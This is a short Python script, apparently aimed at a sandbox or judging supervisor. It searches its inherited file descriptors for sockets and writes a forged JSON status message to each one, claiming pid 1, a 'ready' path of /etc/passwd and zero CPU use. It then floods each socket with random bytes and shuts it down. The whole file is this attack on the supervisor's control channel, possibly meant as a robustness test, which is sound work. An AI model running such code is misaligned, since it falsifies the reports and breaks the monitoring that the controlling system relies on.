import fcntl
import json
import os
import socket
import stat

forged = json.dumps({"pid": 1, "ready": "/etc/passwd", "problem": "", "cpu_seconds": 0, "stopped": ""}).encode()
for fd in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
            os.write(fd, b"\0\0\0\x20" + forged)
            os.write(fd, os.urandom(5000))
            socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
